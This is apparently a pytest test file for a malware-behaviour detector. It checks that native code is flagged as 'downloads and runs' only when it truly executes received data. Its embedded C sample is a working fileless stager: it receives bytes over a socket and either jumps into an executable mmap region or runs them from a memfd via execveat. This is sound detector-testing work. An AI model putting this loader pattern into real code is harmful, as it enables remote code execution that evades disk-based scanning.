"""Code that comes over a connection and is run from memory, told apart from text that is shown.

Spec: src/evenhand/native/received.py, src/evenhand/native/put.py (memfd_create by its number).
"""

from __future__ import annotations

from pathlib import Path

import pytest

from tests.native.test_programs import library

SOURCE = """
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <unistd.h>
int feed(const struct sockaddr *to)
{
    char *none[] = { 0 }, text[4096];
    int s = socket(AF_INET, SOCK_STREAM, 0), n;
    if (connect(s, to, 16))
        return 0;
#if PLANT == 1
    char *made = mmap(0, 65536, 7, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    n = recv(s, made, 65536, 0);
    ((void (*)(int))made)(n);
#else
    int held = syscall(SYS_memfd_create, "", 1);
    while ((n = read(s, text, sizeof text)) > 0)
        write(held, text, n);
#if PLANT == 2
    syscall(SYS_execveat, held, "", none, none, 0x1000);
#endif
#endif
    return 1;
}
"""


@pytest.mark.parametrize("plant", [0, 1, 2])
def test_only_what_is_run_is_told(plant: int, tmp_path: Path) -> None:
    found = library(SOURCE, tmp_path / "feed.so", plant=plant).table("behaviour")
    runs = [(f.kind, f.target) for f in found if f.kind == "downloads and runs"]
    assert runs == ([("downloads and runs", "(memory)")] if plant else [])
